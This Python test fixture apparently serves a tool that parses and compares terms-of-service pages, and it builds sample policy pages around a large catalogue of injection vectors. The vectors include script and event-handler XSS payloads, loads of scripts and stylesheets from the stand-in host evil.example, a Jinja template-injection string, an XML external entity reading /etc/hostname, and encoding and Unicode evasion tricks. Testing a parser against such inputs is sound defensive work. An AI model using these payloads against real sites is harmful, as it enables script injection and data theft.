"""What somebody would write into a policy, a name or an answer to have a page of ours run it. All of it is made up.

Each would set `window.hit`, ask for something at evil.example, or open a dialog.
"""

from html import escape

HIT = "window.hit=1"
ASKED = "https://evil.example/"
_IMG = f"<img src=x onerror={HIT}>"
_SCRIPT = f"<script>{HIT}</script>"

VECTORS: dict[str, str] = {
    "script": f"<script>{HIT};alert(1)</script>",
    "script from elsewhere": f"<script src={ASKED}x.js></script>",
    "script, odd case and spaces": f"<ScRiPt\t>{HIT}</sCrIpT\n>",
    "script within script": f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    "image": _IMG,
    "image without spaces": f"<img/src=x/onerror={HIT}//",
    "image with htmx": f'<img src=x hx-on:error="{HIT}">',
    "htmx": '<div hx-get="https://evil.example/" hx-trigger="load" hx-swap="outerHTML"></div>',
    "svg": f"<svg onload={HIT}>",
    "svg animation": f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s></svg>',
    "svg use": f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{HIT}'/>#x\">",
    "details": f'<details open ontoggle="{HIT}">',
    "focus": f'<input autofocus onfocus="{HIT}">',
    "body": f"<body onload={HIT} onpageshow={HIT}>",
    "frame": f'<iframe src="javascript:parent.{HIT}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object><embed src=//evil.example/x.swf>',
    "javascript link": f'<a href="javascript:{HIT}">terms</a>',
    "javascript link, broken up": f'<a href="java&#9;script&colon;{HIT}">terms</a>',
    "data link": f'<a href="data:text/html,{_SCRIPT}">terms</a>',
    "Markdown link": f"[terms](javascript:{HIT}) ![x](https://evil.example/x.png)",
    "bare javascript address": f"javascript:{HIT}//",
    "out of double quotes": f'" onmouseover="{HIT}" autofocus onfocus="{HIT}" x="',
    "out of single quotes": f"' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='",
    "out of double quotes and the tag": f'">{_SCRIPT}',
    "out of single quotes and the tag": f"'>{_IMG}",
    "backticks": f"`onmouseover={HIT}`",
    "out of a title": f"</title>{_SCRIPT}",
    "out of a text field": f"</textarea>{_SCRIPT}",
    "out of a style sheet": f"</style>{_SCRIPT}",
    "out of a script": f"</script>{_SCRIPT}';{HIT}//",
    "style": f"<style>@import '{ASKED}x.css';*{{background:url({ASKED}x.png)}}</style>",
    "style attribute": f'<p style="background:url({ASKED}x.png)">x</p>',
    "style sheet": f"<link rel=stylesheet href={ASKED}x.css>",
    "refresh": f'<meta http-equiv=refresh content="0;url={ASKED}">',
    "base": f"<base href={ASKED}>",
    "form": f'<form action={ASKED}><button formaction="javascript:{HIT}">Agree</button></form>',
    "template of Jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "template of a browser": f"{{{{constructor.constructor('{HIT}')()}}}}${{{HIT}}}<%= {HIT} %>",
    "entities": f"&lt;script&gt;{HIT}&lt;/script&gt;",
    "numeric entities": f"&#60;img src=x onerror={HIT}&#62;&#x3c;svg onload={HIT}&#x3e;",
    "entities twice": f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
    "mutation by noscript": f'<noscript><p title="</noscript>{_IMG}">',
    "mutation by svg": f'<svg></p><style><a id="</style>{_IMG}">',
    "mutation by MathML": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{_IMG}">',
    "CDATA": f"<![CDATA[{_SCRIPT}]]>",
    "out of CDATA": f"]]>{_SCRIPT}<![CDATA[",
    "comment": f"<!-->{_SCRIPT}-->",
    "comment, closed oddly": f"<!--x--!>{_IMG}",
    "processing instruction": f"<?xml-stylesheet href='javascript:{HIT}'?>",
    "entity declaration": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>&e;',
    "fullwidth signs": f"＜script＞{HIT}＜/script＞＜img src=x onerror={HIT}＞",
    "fullwidth quote": f"＂ onmouseover=＂{HIT}",
    "escapes of scripts": f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e\\x3cimg src=x onerror={HIT}\\x3e",
    "percent": f"%3Cscript%3E{HIT}%3C/script%3E",
    "UTF-7": f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    "line separators": f"\u2028{HIT}\u2029<img src=x onerror\u2028={HIT}>",
    "turned around": f"\u202e<img src=x onerror={HIT}>\u202c",
    "zero-width signs": f"<\u200bscript>{HIT}</scr\u00adipt><im\u200bg src=x onerror={HIT}>",
    "marks of a search": f"\ue000{_IMG}\ue001\ue000",
    "control characters": f"<img src=x onerror\x0c={HIT}>\x1b[31m",
}

ALL = " ".join(VECTORS.values())
SHORT = f"\"'><script>{HIT}</script><img src=x onerror={HIT}>{{{{7*7}}}}"
"""For places that hold little."""

PLATFORMS = (
    f'Acme"><script>{HIT}</script>',
    f"Böse' onmouseover='{HIT}' autofocus onfocus='{HIT}' x='{{{{7*7}}}}",
    f"javascript:{HIT}//</title></textarea></script><svg onload={HIT}>",
)
TYPES = (f"Terms {_IMG}", f'Privacy" onfocus="{HIT}" autofocus x="', f"]]></title>{_SCRIPT}")
URLS = (
    f'https://evil.example/"onmouseover="{HIT}"><script>{HIT}</script>',
    f"javascript:{HIT}//https://evil.example/'onfocus='{HIT}'autofocus='",
    f"data:text/html,<script>{HIT}</script>",
)

_LIVE = f"""
<script>{HIT}</script><img src="{ASKED}x.png" onerror="{HIT}"><svg onload="{HIT}"><script>{HIT}</script></svg>
<!-- <script>{HIT}</script> --><iframe src="javascript:parent.{HIT}"></iframe><style>@import "{ASKED}x.css"</style>
<p onclick="{HIT}" style="background:url({ASKED}x.png)">You agree to
<a href="javascript:{HIT}" onfocus="{HIT}">our rules</a>, to <a href="data:text/html,{escape(_SCRIPT)}">these</a> and to
<a href="{ASKED}&quot;onfocus=&quot;{HIT}">those</a>.</p>
"""
"""Markup that an extractor must take for what it is."""


def page(version: int) -> str:
    """A policy with every vector in its text, escaped as an honest page would; `version` is 1 or 2.

    Of the second version each clause differs, some are new and some are gone, so that a redline parts the vectors.
    """
    notice = {1: "30 days", 2: "14 days"}[version]
    clauses = [_clause(number, vector, notice) for number, vector in enumerate(VECTORS.values(), 1)]
    kept = clauses[:-4] if version == 1 else clauses[3:]
    swapped = escape("<b onclick=no>" if version == 1 else f"<img src=x onerror={HIT}>")
    items = "".join(f"<li>{escape(name)}: {escape(vector)}</li>" for name, vector in list(VECTORS.items())[version:12])
    rows = "".join(f"<tr><th>{escape(vector)}<td>{escape(vector)} {notice}" for vector in list(VECTORS.values())[:8])
    return f"""<!doctype html><html lang="en"><head><title>Terms {escape(SHORT)}</title></head><body><main>
<h1>Terms of Service {escape(SHORT)}</h1><p>Last updated: March {version}, 2026 {escape(_IMG)}</p>{_LIVE}
<p>These terms are a contract between you and Acme {escape(SHORT)} Ltd. By using the service you agree to them.</p>
<p>“Content {escape(_IMG)}” means what you {swapped} upload within {notice}.
You must be at least {12 + version} years old.</p>
<h2>1. Ending {escape(_SCRIPT)}</h2><p>We may end your account {swapped} with {notice} notice.</p>
{"".join(kept)}
<h2>We share with {escape(_IMG)}</h2><ul>{items}</ul><h2>Fees</h2><table>{rows}</table>
<h2>Law</h2><p>These terms are governed by the laws of Ireland, and you may bring a claim in the courts of Dublin.</p>
</main></body></html>"""


def _clause(number: int, vector: str, notice: str) -> str:
    text = f"You may not send {escape(vector)} to the service. We may end your account with {notice} notice if you do."
    return f"<h2>{number + 1}. Use of {escape(vector)}</h2><p>{text}</p>"
